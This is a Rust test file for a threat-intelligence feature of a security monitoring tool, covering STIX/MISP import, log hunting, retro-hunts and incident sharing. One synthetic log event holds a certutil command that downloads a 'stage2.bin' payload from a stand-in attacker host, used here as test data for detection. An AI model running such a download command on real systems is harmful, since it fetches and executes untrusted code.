//! Threat intelligence through the command line: `intel check` over the shared threat-intel
//! set (STIX examples, MISP events, ATT&CK, IOC lists), and `hunt --intel` raising alerts that
//! name the partner whose indicator matched.

mod common;

use std::process::{Command, Output};

use serde_json::Value;

fn wardwatch(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_wardwatch"))
        .args(args)
        .output()
        .expect("run wardwatch")
}

/// The rows `--format jsonl` printed.
fn jsonl(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn the_shared_threat_intel_set_imports_and_what_is_no_intelligence_is_refused_by_name() {
    let Some(data) = common::shared(
        "the_shared_threat_intel_set_imports_and_what_is_no_intelligence_is_refused_by_name",
    ) else {
        return;
    };
    let dir = data.join("threat-intel");
    let out = wardwatch(&["intel", "check", dir.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    let line = |needle: &str| {
        text.lines()
            .find(|l| l.contains(needle))
            .unwrap_or_else(|| panic!("no line for {needle}:\n{text}"))
            .to_string()
    };
    // IOC lists: every line of the ThreatFox list is an address; OpenPhish gives URLs.
    assert!(line("threatfox-ioc-ips.txt").contains("19863 indicator(s) (19863 ip)"));
    assert!(line("openphish-feed.sample.txt").contains("2 indicator(s) (2 url)"));
    // STIX 2.1 examples: the C2 address, the APT1 report's networks, domains and hashes; the
    // patterns one value cannot answer (AND, MATCHES) are skipped, not guessed.
    assert!(line("indicator-for-c2-ip-address.json").contains("1 indicator(s) (1 ip)"));
    assert!(line("threat-reports__apt1.json").contains("(4 cidr, 3 domain, 3 md5); 2 skipped"));
    assert!(line("interop-objectmarking-test.json").contains("0 indicator(s)"));
    // ATT&CK (24,000 per-object STIX 2.0 bundles in one .tar.gz, and the ICS bundle): read
    // whole, no indicators in them.
    assert!(line("mitre-cti-enterprise-attack-objects.tar.gz").contains("0 indicator(s)"));
    assert!(line("ics-attack.json").contains("0 indicator(s)"));
    // MISP events, with attributes not meant for detection skipped.
    assert!(line("existing_event.json:").contains("68 indicator(s)"));
    // What is no intelligence (a galaxy, object templates, a lone sighting) is refused, named.
    let refused: Vec<&str> = text.lines().filter(|l| l.contains(": error:")).collect();
    assert_eq!(refused.len(), 4, "{refused:#?}");
    for name in [
        "galaxy.json",
        "overwrite_file__definition.json",
        "sighting.json",
        "test_object_template__definition.json",
    ] {
        assert!(
            refused
                .iter()
                .any(|l| l.contains(name) && l.contains("not a MISP event")),
            "{name}: {refused:#?}"
        );
    }
    assert_eq!(out.status.code(), Some(1), "refused files make check fail");
}

#[test]
fn hunt_with_intel_names_the_partner_the_indicator_and_where_it_was_seen() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = dir.path().join("partner-a.json");
    std::fs::write(
        &bundle,
        serde_json::json!({"type": "bundle", "id": "bundle--6c1c8a2e-0000-4000-8000-000000000001",
            "objects": [
                {"type": "indicator", "spec_version": "2.1",
                 "id": "indicator--6c1c8a2e-0000-4000-8000-000000000002",
                 "created": "2026-11-01T00:00:00.000Z", "modified": "2026-11-01T00:00:00.000Z",
                 "name": "Invoice phishing wave",
                 "pattern": "[domain-name:value = 'billing-portal.example']",
                 "pattern_type": "stix", "valid_from": "2026-11-01T00:00:00Z"},
                {"type": "indicator", "spec_version": "2.1",
                 "id": "indicator--6c1c8a2e-0000-4000-8000-000000000003",
                 "created": "2026-11-01T00:00:00.000Z", "modified": "2026-11-01T00:00:00.000Z",
                 "pattern": "[ipv4-addr:value = '203.0.113.66']", "pattern_type": "stix",
                 "valid_from": "2026-11-01T00:00:00Z", "valid_until": "2026-12-01T00:00:00Z"}]})
        .to_string(),
    )
    .unwrap();
    let list = dir.path().join("feed.txt");
    std::fs::write(
        &list,
        "# weekly feed\nhxxp://dl.bad-cdn[.]example/stage2.bin\n",
    )
    .unwrap();
    let events = dir.path().join("events.jsonl");
    std::fs::write(
        &events,
        [
            // A subdomain of the shared domain, asked for by a workstation.
            r#"{"@timestamp":"2026-11-20T09:00:00Z","host":{"name":"ws-041"},"dns":{"question":{"name":"login.billing-portal.example"}},"source":{"ip":"10.20.1.41"}}"#,
            // The shared address, while the indicator is valid; then after it expired.
            r#"{"@timestamp":"2026-11-20T09:00:05Z","host":{"name":"ws-041"},"source":{"ip":"10.20.1.41"},"destination":{"ip":"203.0.113.66","port":443}}"#,
            r#"{"@timestamp":"2026-12-02T09:00:05Z","host":{"name":"ws-041"},"source":{"ip":"10.20.1.41"},"destination":{"ip":"203.0.113.66","port":443}}"#,
            // A neighbour address and a look-alike domain: nothing.
            r#"{"@timestamp":"2026-11-20T09:00:06Z","host":{"name":"ws-042"},"source":{"ip":"10.20.1.42"},"destination":{"ip":"203.0.113.67","port":443}}"#,
            r#"{"@timestamp":"2026-11-20T09:00:07Z","host":{"name":"ws-042"},"dns":{"question":{"name":"billing-portal.example.org"}}}"#,
            // The defanged URL of the feed, fetched by a command line.
            r#"{"@timestamp":"2026-11-20T09:01:00Z","host":{"name":"ws-043"},"process":{"command_line":"certutil -urlcache -f http://dl.bad-cdn.example/stage2.bin s.exe"}}"#,
        ]
        .join("\n"),
    )
    .unwrap();
    let out = wardwatch(&[
        "hunt",
        events.to_str().unwrap(),
        "--intel",
        bundle.to_str().unwrap(),
        "--intel",
        list.to_str().unwrap(),
        "--format",
        "jsonl",
        "-q",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows: Vec<Value> = jsonl(&out)
        .into_iter()
        .filter(|r| r["rule_id"].as_str().unwrap_or("").starts_with("intel:"))
        .collect();
    let got: Vec<(&str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["rule_id"].as_str().unwrap(),
                r["level"].as_str().unwrap(),
                r["entities"][0]["value"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "intel:partner-a:domain",
                "high",
                "login.billing-portal.example"
            ),
            ("intel:partner-a:ip", "medium", "203.0.113.66"),
            (
                "intel:feed:url",
                "high",
                "http://dl.bad-cdn.example/stage2.bin"
            ),
        ]
    );
    let details = rows[0]["details"].as_str().unwrap();
    for fact in [
        "intel.source: partner-a",
        "intel.name: Invoice phishing wave",
        "intel.field: dns.question.name",
        "indicator--6c1c8a2e-0000-4000-8000-000000000002",
    ] {
        assert!(details.contains(fact), "{fact}: {details}");
    }
    // A file that is no intelligence stops the hunt with its name, before any log is read.
    let bad = dir.path().join("notes.txt");
    std::fs::write(&bad, "call the vendor on Monday\n").unwrap();
    let out = wardwatch(&[
        "hunt",
        events.to_str().unwrap(),
        "--intel",
        bad.to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("notes.txt") && err.contains("line 1"), "{err}");
}

/// `target/py-intel/bin/stix2_validator` (PyPI `stix2-validator`, installed by `.ci/run`).
fn stix2_validator() -> Option<std::path::PathBuf> {
    let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../target/py-intel/bin/stix2_validator");
    if p.exists() {
        Some(p)
    } else {
        assert!(
            std::env::var_os("CI").is_none(),
            "stix2-validator is missing and CI is set (.ci/run installs it)"
        );
        eprintln!(
            "skipped the stix2-validator check: target/py-intel is absent (.ci/run installs it)"
        );
        None
    }
}

#[test]
fn an_incident_of_the_demo_week_shares_as_a_valid_bundle_without_inside_names() {
    let mut demo = common::start_demo(&[]);
    let (status, v) = common::http_get(
        demo.http,
        "/api/v1/incidents?min_severity=medium",
        Some("demo"),
    );
    assert_eq!(status, 200, "{v}");
    let incidents = v["incidents"].as_array().unwrap().clone();
    demo.child.kill().unwrap();
    demo.child.wait().unwrap();
    // The demo's inventory and roster as a context folder.
    let ctx = tempfile::tempdir().unwrap();
    for (from, to) in [
        ("demo-inventory.csv", "inventory.csv"),
        ("demo-roster.csv", "roster.csv"),
    ] {
        std::fs::copy(demo.data.join(from), ctx.path().join(to)).unwrap();
    }
    let roster = std::fs::read_to_string(ctx.path().join("roster.csv")).unwrap();
    assert!(!incidents.is_empty());
    let mut indicators = 0;
    for inc in &incidents {
        let id = inc["id"].as_str().unwrap();
        let out_file = ctx.path().join(format!("{id}.json"));
        let out = wardwatch(&[
            "intel",
            "share",
            id,
            "--data",
            demo.data.to_str().unwrap(),
            "--context",
            ctx.path().to_str().unwrap(),
            "--producer",
            "Demo University Hospital",
            "--tlp",
            "green",
            "--dry-run",
            "-o",
            out_file.to_str().unwrap(),
        ]);
        assert!(
            out.status.success(),
            "{id}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let printed: Value = serde_json::from_slice(&out.stdout).unwrap();
        let written: Value =
            serde_json::from_str(&std::fs::read_to_string(&out_file).unwrap()).unwrap();
        assert_eq!(printed, written, "--dry-run prints what -o writes");
        let text = printed.to_string().to_lowercase();
        // Nothing the incident names inside the hospital: its hosts, accounts, source
        // addresses, and nobody of the roster.
        for field in ["hosts", "users", "ips"] {
            for value in inc[field].as_array().unwrap() {
                let value = value.as_str().unwrap().to_lowercase();
                let internal_ip = value.parse::<std::net::IpAddr>().is_ok_and(|ip| match ip {
                    std::net::IpAddr::V4(v4) => v4.is_private() || v4.is_loopback(),
                    std::net::IpAddr::V6(_) => true,
                });
                if field != "ips" || internal_ip {
                    assert!(!text.contains(&value), "{id}: {field} `{value}` leaked");
                }
            }
        }
        for row in roster.lines().skip(1) {
            let cells: Vec<&str> = row.split(',').collect();
            for cell in cells.iter().take(3) {
                let cell = cell.trim().to_lowercase();
                if cell.len() >= 3 {
                    assert!(!text.contains(&cell), "{id}: roster value `{cell}` leaked");
                }
            }
        }
        let objects = printed["objects"].as_array().unwrap();
        assert!(objects.iter().any(|o| o["type"] == "report"));
        indicators += objects.iter().filter(|o| o["type"] == "indicator").count();
        if let Some(validator) = stix2_validator() {
            let check = Command::new(validator)
                .arg(&out_file)
                .output()
                .expect("run stix2_validator");
            let said = String::from_utf8_lossy(&check.stdout);
            assert!(
                check.status.success() && !said.contains("[X]") && !said.contains("[!]"),
                "{id}: stix2-validator refused or warned about the bundle:\n{said}\n{}",
                String::from_utf8_lossy(&check.stderr)
            );
        }
    }
    // The phishing story's sender, link and download are outside the hospital: shared.
    assert!(indicators >= 2, "{indicators} indicators in all");
}

/// A new indicator for a domain a workstation asked for ten days ago: the retro-hunt over the
/// stored events finds that old event and names it; an event outside the look-back does not
/// count, nor a domain that only resembles it.
#[test]
fn a_retro_hunt_finds_the_domain_seen_ten_days_ago_and_names_that_event() {
    let server = common::Server::start(&[]);
    let now = jiff::Timestamp::now();
    let ago = |days: i64| (now - jiff::SignedDuration::from_hours(24 * days)).to_string();
    let docs = [
        serde_json::json!({"@timestamp": ago(10), "host": {"name": "ws-card-07"},
            "source": {"ip": "10.30.4.7"},
            "dns": {"question": {"name": "cdn.billing-portal.example"}}}),
        serde_json::json!({"@timestamp": ago(9), "host": {"name": "ws-card-08"},
            "dns": {"question": {"name": "billing-portal.example.org"}}}),
        serde_json::json!({"@timestamp": ago(1), "host": {"name": "ws-card-09"},
            "dns": {"question": {"name": "intranet.hospital.example"}}}),
    ];
    common::post_bulk(&server, &docs);
    server.wait_events("dns.question.name:*", 3);
    let dir = tempfile::tempdir().unwrap();
    let intel = dir.path().join("partner-b.txt");
    std::fs::write(&intel, "billing-portal.example\n").unwrap();
    let run = |days: &str| {
        wardwatch(&[
            "intel",
            "retro",
            intel.to_str().unwrap(),
            "--data",
            server.data.to_str().unwrap(),
            "--days",
            days,
            "--format",
            "jsonl",
        ])
    };
    let out = run("30");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let rows = jsonl(&out);
    assert_eq!(rows.len(), 1, "{rows:?}");
    let hit = &rows[0];
    assert_eq!(hit["rule_id"], "intel:partner-b:domain");
    assert_eq!(hit["host"], "ws-card-07");
    let when: jiff::Timestamp = hit["timestamp"].as_str().unwrap().parse().unwrap();
    let age = now.duration_since(when).as_hours();
    assert!(
        (239..=241).contains(&age),
        "the old event's own time: {when}"
    );
    assert_eq!(hit["entities"][0]["value"], "cdn.billing-portal.example");
    assert!(String::from_utf8_lossy(&out.stderr).contains("1 hit(s)"));
    // A look-back of a week does not reach it.
    let out = run("7");
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).trim().is_empty());
}

/// `serve` with `[intel] paths`: a workstation asking for a subdomain of a shared domain raises
/// an alert naming the partner, live; a file that is no intelligence stops the start, named.
#[test]
fn serve_matches_incoming_events_against_the_configured_intelligence() {
    let dir = tempfile::tempdir().unwrap();
    let intel = dir.path().join("partner-c.txt");
    std::fs::write(
        &intel,
        "# partner C, this week\nupdate-check.example\n198.51.100.77\n",
    )
    .unwrap();
    let config = dir.path().join("wardwatch.toml");
    std::fs::write(
        &config,
        format!("[intel]\npaths = [{:?}]\n", intel.to_str().unwrap()),
    )
    .unwrap();
    let server = common::Server::start(&["--config", config.to_str().unwrap()]);
    let now = jiff::Timestamp::now().to_string();
    let docs = [
        serde_json::json!({"@timestamp": now, "host": {"name": "ws-lab-02"},
            "dns": {"question": {"name": "eu.update-check.example"}}}),
        serde_json::json!({"@timestamp": now, "host": {"name": "ws-lab-03"},
            "dns": {"question": {"name": "update-check.example.net"}}}),
    ];
    common::post_bulk(&server, &docs);
    let alerts = server.wait_alerts("rule_id=intel:partner-c:domain", 1);
    assert_eq!(alerts["total"], 1, "{alerts}");
    let alert = &alerts["alerts"][0];
    assert_eq!(alert["host"], "ws-lab-02", "{alert}");
    assert!(
        alert.to_string().contains("eu.update-check.example"),
        "{alert}"
    );

    let bad = dir.path().join("bad.txt");
    std::fs::write(&bad, "not an indicator at all\n").unwrap();
    let bad_config = dir.path().join("bad.toml");
    std::fs::write(
        &bad_config,
        format!("[intel]\npaths = [{:?}]\n", bad.to_str().unwrap()),
    )
    .unwrap();
    let data = dir.path().join("data2");
    let out = wardwatch(&[
        "serve",
        "--config",
        bad_config.to_str().unwrap(),
        "--data",
        data.to_str().unwrap(),
        "--http",
        "127.0.0.1:0",
        "--syslog",
        "",
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.txt") && err.contains("line 1"), "{err}");
}
